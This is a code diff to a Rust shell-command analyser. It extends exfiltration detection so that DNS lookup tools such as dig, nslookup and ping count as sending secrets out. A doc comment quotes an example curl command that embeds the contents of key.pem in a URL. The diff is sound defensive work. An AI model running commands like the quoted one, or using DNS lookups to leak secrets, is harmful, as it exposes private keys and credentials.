@@ -79,7 +79,7 @@ fn program(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> St
         },
     );
     if !scene.files.is_empty() {
-        carried(scene, words, mark);
+        carried(scene, words, about, mark);
     }
     if out.text.is_none() {
         out.text = builtins::simple_output(words).map(|text| (text, about.span));
@@ -87,10 +87,24 @@ fn program(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>) -> St
     out
 }
 
+/// Programs that put their operands into a question to a name server.
+const LOOKS_UP: &[&str] = &["dig", "drill", "getent", "host", "nslookup", "ping"];
+
 /// `curl "https://…/?k=$(cat key.pem)"`: a command that sends its words out sends the secrets that substitutions read.
-fn carried(scene: &mut Scene<'_>, words: &[Word], mark: usize) {
+fn carried(scene: &mut Scene<'_>, words: &[Word], about: &Command<'_, '_>, mark: usize) {
     let sends = |effect: &&mut Effect| effect.operation == Operation::Export && effect.zone != Some(Zone::Local);
-    let Some(sent) = scene.since(mark).iter_mut().find(sends).map(|effect| effect.clone()) else { return };
+    let mut sent = scene.since(mark).iter_mut().find(sends).map(|effect| effect.clone());
+    // A name that is looked up reaches whoever answers for its domain.
+    if sent.is_none()
+        && let Some(program) = words.first().filter(|word| LOOKS_UP.contains(&&*word.text))
+    {
+        let mut effect = Effect::new(Operation::Export, Resource::new(ResourceKind::Item, ""));
+        (effect.zone, effect.peer) = (Some(Zone::External), Some("DNS".to_owned()));
+        effect.by.clone_from(&program.text);
+        effect.span = about.span;
+        sent = Some(effect);
+    }
+    let Some(sent) = sent else { return };
     // Logging in with a token is what the token is for.
     let logs_in = |word: &&Word| !["uthorization", "Bearer", "oken"].iter().any(|name| word.text.contains(name));
     let parts = words.iter().filter(logs_in).flat_map(|word| &word.unknown);
@@ -101,7 +115,7 @@ fn carried(scene: &mut Scene<'_>, words: &[Word], mark: usize) {
         .cloned()
         .collect();
     for resource in secrets {
-        scene.effect(Effect { resource, span: None, ..sent.clone() });
+        scene.effect(Effect { resource, span: about.span, ..sent.clone() });
     }
 }
 
